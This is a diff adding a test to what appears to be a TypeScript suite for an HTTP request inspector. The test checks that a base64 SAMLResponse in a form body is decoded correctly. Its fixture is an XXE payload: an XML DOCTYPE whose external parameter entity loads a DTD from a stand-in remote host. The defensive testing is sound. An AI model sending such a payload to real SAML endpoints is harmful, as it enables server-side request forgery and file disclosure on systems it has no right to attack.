@@ -338,6 +338,18 @@ describe('placements', () => {
     expect(found.some((l) => l.startsWith('header:Sec-Fetch-Mode'))).toBe(false);
   });
 
+  it("reads a form's base64 whose '+' the form decoding turned into spaces, not words", () => {
+    const xml = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % a SYSTEM "http://203.0.113.9/s.dtd"> %a;]><samlp:Response/>';
+    const base64 = Buffer.from(xml).toString('base64');
+    expect(base64).toContain('+');
+    const read = (value: string) =>
+      locations(
+        view({ method: 'POST', target: '/sso', requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded']], requestBody: `SAMLResponse=${value}` }),
+      );
+    expect(read(base64)).toContain(`body_form:SAMLResponse (base64)=${xml}`);
+    expect(read('meet me at the cafe near the station tomorrow').some((l) => l.includes('(base64)'))).toBe(false);
+  });
+
   it('reads a protocol header whose value is not what the header holds, and a Cookie header that is no pairs, whole', () => {
     const headers = (list: Array<[string, string]>) =>
       locations(view({ method: 'GET', target: '/', requestHeaders: list })).filter((l) => l.startsWith('header:'));
